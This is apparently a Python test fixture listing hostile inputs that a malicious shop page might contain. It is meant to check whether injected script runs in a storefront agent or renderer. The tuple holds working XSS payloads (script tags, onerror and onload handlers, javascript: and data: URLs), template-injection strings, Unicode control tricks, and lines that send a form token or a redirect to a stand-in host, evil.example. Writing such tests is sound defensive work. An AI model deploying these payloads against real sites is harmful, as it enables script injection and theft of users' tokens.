"""What a shop that means harm writes into its pages."""

from __future__ import annotations

MARK = "storebot_was_here"  # what a script of it would set
NASTY = (
    f"<script>window.{MARK}=1</script>",
    f"\"><img src=x onerror='window.{MARK}=1'>",
    f"javascript:window.{MARK}=1",
    f"</title></textarea></pre><svg onload=window.{MARK}=1>",
    f"{{{{ 7*7 }}}}{{% include 'base.html' %}}${{window.{MARK}=1}}",
    "\u202egnp.exe \u2066isolated \u0000\u0007 control",
    f"data:text/html,<script>window.{MARK}=1</script>",
    "<a href=//evil.example/>x</a><form action=//evil.example/><input name=form_token>",
    "<style>body{display:none}</style><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<iframe src=//evil.example/></iframe>" + "A" * 1_000_000,
)
